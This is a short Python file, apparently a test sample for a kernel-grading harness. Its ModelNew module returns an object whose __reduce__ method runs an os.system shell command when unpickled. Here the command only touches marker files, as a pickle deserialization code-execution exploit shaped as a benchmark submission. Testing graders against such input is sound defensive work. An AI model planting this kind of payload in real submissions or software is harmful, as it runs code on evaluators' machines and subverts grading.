"""Returns an object that runs code in whoever unpickles it."""

import os

from torch import nn

LEAVE = "touch ~/.kernelwright-zoo-written /tmp/.kernelwright-zoo-written"


class Bait:
    def __reduce__(self):
        return os.system, (LEAVE,)


class ModelNew(nn.Module):
    def forward(self, x):
        return Bait()
